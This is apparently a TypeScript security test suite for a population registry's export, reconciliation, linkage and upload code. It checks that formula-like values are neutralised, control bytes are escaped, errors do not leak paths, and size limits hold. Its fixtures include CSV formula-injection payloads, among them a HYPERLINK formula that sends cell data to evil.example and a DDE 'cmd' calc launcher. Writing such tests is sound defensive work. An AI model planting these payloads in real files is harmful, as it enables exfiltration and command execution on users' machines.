/**
 * Security review (issue 13), the output and bulk side: CSV injection and raw control bytes in the
 * registry export, reconciliation results and linkage pairs; the upload limit; DuckDB's bounds.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import Fastify from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerErrorHandler } from '../src/http/error-handler.js';
import { linkedPairsCsv } from '../src/matching/linkage-pairs.writer.js';
import type { LinkageResult } from '../src/matching/linkage.service.js';
import { ReconcileJobService } from '../src/matching/reconcile-job.service.js';
import { duckDbReconcileEngine } from '../src/matching/reconcile.engine.js';
import { reconcilePresets } from '../src/matching/reconcile.presets.js';
import { reconcileRoutes } from '../src/matching/reconcile.routes.js';
import { ReconcileService as ReconcileServiceImpl, type ReconcileService } from '../src/matching/reconcile.service.js';
import { readSnapshotPersons, writeSnapshot, type SnapshotPersonWithCard } from '../src/matching/registry-snapshot.engine.js';
import { exportPersons } from '../src/registry/person-export.service.js';
import { readPersonFile } from '../src/registry/person-file.reader.js';
import { PersonImportService } from '../src/registry/person-import.service.js';
import { generatePopulation } from '../src/registry/population.generator.js';
import { RegistryService } from '../src/registry/registry.service.js';
import { fixedClock } from '../src/shared/clock.js';
import { createTestDatabase } from './test-database.js';

const clock = fixedClock('2026-12-04T05:00:00Z');
let dir: string;

beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'sachsong-security-output-'));
});
afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

/** Control characters other than the line breaks a CSV or NDJSON file is made of. */
// eslint-disable-next-line no-control-regex -- finding them is the point
const rawControl = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029]/u;
const formula = /^[=+\-@\t\r]/u;

describe('the registry export', () => {
  it('neutralises formulas and writes no control character raw, in CSV and NDJSON; a CSV export imports back unchanged', async () => {
    const database = await createTestDatabase('sqlite');
    const target = await createTestDatabase('sqlite');
    try {
      const registry = new RegistryService({ db: database.db, clock });
      const base = { birthDate: '1985-01-02', sex: 'M', birthProvince: '001' };
      await registry.register({ type: 'registration', idNumber: '001085000001', occurredOn: '2026-12-01', officerId: null, reason: null, facts: { ...base, fullName: 'Phạm Văn Hùng', currentAddress: '- thôn 3, xã Phú Lộc' } });
      await registry.register({ type: 'registration', idNumber: '001085000002', occurredOn: '2026-12-01', officerId: null, reason: null, facts: { ...base, fullName: 'Lê Văn An' } });
      // Values held from before the registry refused them (an old import): written into the row directly.
      await database.db.updateTable('persons').set({
        current_address: '=HYPERLINK("http://evil.example/?x="&A1,"Xem")', permanent_address: 'Số 5\u0000 ngõ 12', hometown: '@SUM(1+1)', religion: '+cmd|\' /C calc\'!A0', ethnicity: '\tKinh\u0085',
      }).where('id_number', '=', '001085000002').execute();

      const csvFile = path.join(dir, 'persons.csv');
      expect(await exportPersons(database.db, csvFile, 'csv', () => Promise.reject(new Error('not parquet')))).toBe(2);
      const csvBytes = readFileSync(csvFile, 'utf8');
      expect(csvBytes).not.toMatch(rawControl);
      const rows = parse<Record<string, string>>(csvBytes, { columns: true });
      for (const r of rows) for (const value of Object.values(r)) expect(value, value).not.toMatch(formula);
      const second = rows.find((r) => r.id_number === '001085000002');
      expect(second).toMatchObject({
        current_address: '\'=HYPERLINK("http://evil.example/?x="&A1,"Xem")', permanent_address: 'Số 5\uFFFD ngõ 12', hometown: '\'@SUM(1+1)', religion: '\'+cmd|\' /C calc\'!A0', ethnicity: '\uFFFDKinh\uFFFD',
      });
      expect(rows.find((r) => r.id_number === '001085000001')?.current_address).toBe('\'- thôn 3, xã Phú Lộc');

      const ndjsonFile = path.join(dir, 'persons.ndjson');
      await exportPersons(database.db, ndjsonFile, 'ndjson', () => Promise.reject(new Error('not parquet')));
      const ndjson = readFileSync(ndjsonFile, 'utf8');
      expect(ndjson).not.toMatch(rawControl);
      const back = ndjson.trim().split('\n').map((l) => JSON.parse(l) as Record<string, string>);
      expect(back.find((r) => r.id_number === '001085000002')?.ethnicity).toBe('\tKinh\u0085'); // escaped, not lost

      // The export's quote before a leading "-" comes off again on import.
      const importer = new PersonImportService({ db: target.db, clock, registry: new RegistryService({ db: target.db, clock }) });
      const report = await importer.run((await readPersonFile(csvFile)).rows, { importId: 'round-trip', batchSize: 10, officerId: null });
      expect(report.accepted).toBe(1); // the damaged old row is refused, not stored again
      expect(report.rejections.map((r) => [r.rowNumber, r.code])).toEqual([[2, 'ROW_ENCODING_INVALID']]);
      const person = await target.db.selectFrom('persons').select('current_address').where('id_number', '=', '001085000001').executeTakeFirstOrThrow();
      expect(person.current_address).toBe('- thôn 3, xã Phú Lộc');
    } finally {
      await database.close();
      await target.close();
    }
  });
});

describe('reconciliation and linkage outputs', () => {
  let snapshotDir: string;
  let persons: SnapshotPersonWithCard[];

  beforeAll(async () => {
    snapshotDir = path.join(dir, 'snapshot');
    function* pages(): Generator<SnapshotPersonWithCard[]> {
      for (const batch of generatePopulation({ people: 100, seed: 5, today: '2026-01-01' })) yield batch.persons.map((p) => ({ ...p, old_card: null }));
    }
    await writeSnapshot(snapshotDir, pages(), 'security-test');
    persons = await readSnapshotPersons(snapshotDir);
  }, 60_000);

  it('results.csv neutralises the agency\'s formula-like values and writes no control character raw', async () => {
    const p = persons[0] as SnapshotPersonWithCard;
    const file = path.join(dir, 'agency.csv');
    writeFileSync(file, [
      'tax_record_no,id_number,taxpayer_name,birth_date',
      `"=HYPERLINK(""http://evil.example"",""x"")",${p.id_number},${p.full_name},01/01/1900`,
      `@SUM(A1),${p.id_number},${p.full_name},01/01/1900`,
      `"-2+3+cmd|' /C calc'!A0",001099999999,Nguyễn Văn A,01/01/1990`,
      `"R\u0007\u0001",001099999998,Nguyễn Văn B,01/01/1990`,
    ].join('\n') + '\n');
    const results = path.join(dir, 'out', 'results.csv');
    const summary = await duckDbReconcileEngine.run({ input: file, preset: reconcilePresets.tax, snapshotDir, resultsPath: results, today: '2026-01-01' });
    expect(summary.rows).toBe(4);
    const text = readFileSync(results, 'utf8');
    expect(text).not.toMatch(rawControl);
    const rows = parse<Record<string, string>>(text, { columns: true });
    expect(rows.map((r) => r.record)).toEqual(['\'=HYPERLINK("http://evil.example","x")', '\'@SUM(A1)', '\'-2+3+cmd|\' /C calc\'!A0', 'R\uFFFD\uFFFD']);
    for (const r of rows) for (const value of Object.values(r)) expect(value).not.toMatch(formula);
    // No spill folder is left beside the results.
    expect(readdirSync(path.join(dir, 'out'))).toEqual(['results.csv']);
  }, 60_000);

  it('an unreadable agency file or output folder is reported without a server path or a cell of the file', async () => {
    const junk = path.join(dir, 'junk-secret-folder', 'agency.parquet');
    mkdirSync(path.dirname(junk), { recursive: true });
    writeFileSync(junk, 'Nguyễn Văn A,079203012345\n'.repeat(50));
    const failure = await duckDbReconcileEngine.run({ input: junk, preset: reconcilePresets.tax, snapshotDir, resultsPath: path.join(dir, 'junk-out', 'results.csv'), today: '2026-01-01' })
      .then(() => undefined, (error: unknown) => error as { code?: string; message: string });
    expect(failure?.code).toBe('RECONCILE_FILE_UNREADABLE');
    expect(failure?.message).not.toContain('junk-secret-folder');
    expect(failure?.message).not.toContain(dir);
    expect(failure?.message).not.toContain('079203012345');

    const headerless = path.join(dir, 'junk-secret-folder', 'empty.csv');
    writeFileSync(headerless, '\n1,2,3\n');
    await expect(duckDbReconcileEngine.run({ input: headerless, preset: reconcilePresets.tax, snapshotDir, resultsPath: path.join(dir, 'junk-out', 'r2.csv'), today: '2026-01-01' }))
      .rejects.toMatchObject({ code: 'RECONCILE_FILE_UNREADABLE', message: 'the agency file has no header line' });

    const blocked = path.join(dir, 'a-file-not-a-folder');
    writeFileSync(blocked, 'x');
    const service = new ReconcileServiceImpl({ engine: duckDbReconcileEngine, clock: fixedClock('2026-01-02T00:00:00Z'), snapshot: () => Promise.reject(new Error('not reached')) });
    const refused = await service.run({ input: headerless, preset: reconcilePresets.tax, outDir: path.join(blocked, 'out') }).then(() => undefined, (error: unknown) => error as { code?: string; message: string });
    expect(refused?.code).toBe('RECONCILE_OUTPUT_UNWRITABLE');
    expect(refused?.message).not.toContain(dir);
  });

  it('linkage pairs neutralise formula-like ids', () => {
    const result = { model: { fields: [] }, pairs: [{ leftId: '=1+1', rightId: '@x', probability: 0.9, weight: 1, explanation: [] }] } as unknown as LinkageResult;
    const rows: string[][] = parse(linkedPairsCsv(result));
    expect(rows[1]?.slice(0, 2)).toEqual(['\'=1+1', '\'@x']);
  });
});

describe('reconciliation uploads', () => {
  function service(limit: number): { jobs: ReconcileJobService; inbox: string } {
    const root = mkdtempSync(path.join(dir, 'jobs-'));
    const inbox = path.join(root, 'inbox');
    const jobs = new ReconcileJobService({ db: undefined as never, clock, reconcile: undefined as unknown as ReconcileService, jobsDir: path.join(root, 'jobs'), inboxDir: inbox, maxUploadBytes: limit });
    return { jobs, inbox };
  }

  it('answers 413 problem+json past the configured limit, and leaves nothing in the inbox', async () => {
    const { jobs, inbox } = service(1_000);
    const app = Fastify();
    registerErrorHandler(app);
    await app.register(reconcileRoutes, { prefix: '/api', jobs });
    try {
      const big = await app.inject({ method: 'PUT', url: '/api/reconcile-jobs/files/big.csv', headers: { 'content-type': 'text/csv' }, payload: 'x'.repeat(5_000) });
      expect(big.statusCode).toBe(413);
      expect(big.headers['content-type']).toMatch(/^application\/problem\+json/u);
      expect(big.json()).toMatchObject({ status: 413, code: 'RECONCILE_UPLOAD_TOO_LARGE' });
      expect(existsSync(inbox) ? readdirSync(inbox) : []).toEqual([]);
      const small = await app.inject({ method: 'PUT', url: '/api/reconcile-jobs/files/small.csv', headers: { 'content-type': 'text/csv' }, payload: 'y'.repeat(1_000) });
      expect(small.statusCode).toBe(201);
      expect(readdirSync(inbox)).toEqual(['small.csv']);
    } finally {
      await app.close();
    }
  });

  it('stops a stream without a declared length once it passes the limit, removing the partial file', async () => {
    const { jobs, inbox } = service(64 * 1024);
    let sent = 0;
    // 1 MiB in 16 KiB chunks: far more than the limit.
    const body = new Readable({
      read() {
        sent += 16 * 1024;
        this.push(sent > 1024 * 1024 ? null : Buffer.alloc(16 * 1024, 0x61));
      },
    });
    await expect(jobs.upload('stream.csv', body)).rejects.toMatchObject({ code: 'RECONCILE_UPLOAD_TOO_LARGE' });
    expect(sent).toBeLessThan(1024 * 1024);
    expect(readdirSync(inbox)).toEqual([]);
  });
});

describe('DuckDB bounds', () => {
  it('every DuckDB instance of the bulk work is opened in one place, with a memory limit, threads and a spill folder', async () => {
    const sources = ['src/matching', 'src/quality', 'src/store', 'src/registry', 'src/cli'].flatMap((folder) => readdirSync(folder).filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts')).map((f) => path.join(folder, f)));
    const creating = sources.filter((f) => /DuckDBInstance\s*\.\s*(create|fromCache)\s*\(/u.test(readFileSync(f, 'utf8')));
    expect(creating).toEqual(['src/store/duckdb.bounds.ts']);
    const { openDuckDb } = await import('../src/store/duckdb.bounds.js');
    const spillRoot = path.join(dir, 'spill');
    const duck = await openDuckDb(spillRoot, {}, { memoryLimitBytes: 300 * 1024 * 1024, threads: 1, maxTempBytes: 1024 ** 3 });
    const connection = await duck.instance.connect();
    try {
      const [row] = (await connection.runAndReadAll("SELECT current_setting('memory_limit'), current_setting('threads'), current_setting('temp_directory')")).getRowsJS();
      const [memory, threads, temp] = (row ?? []).map(String);
      expect(memory).toMatch(/^(300\.0 MiB|314\.5 MB)$/u);
      expect(threads).toBe('1');
      expect(temp?.startsWith(spillRoot)).toBe(true);
    } finally {
      connection.closeSync();
      duck.close();
    }
    expect(existsSync(spillRoot)).toBe(false);
  });
});
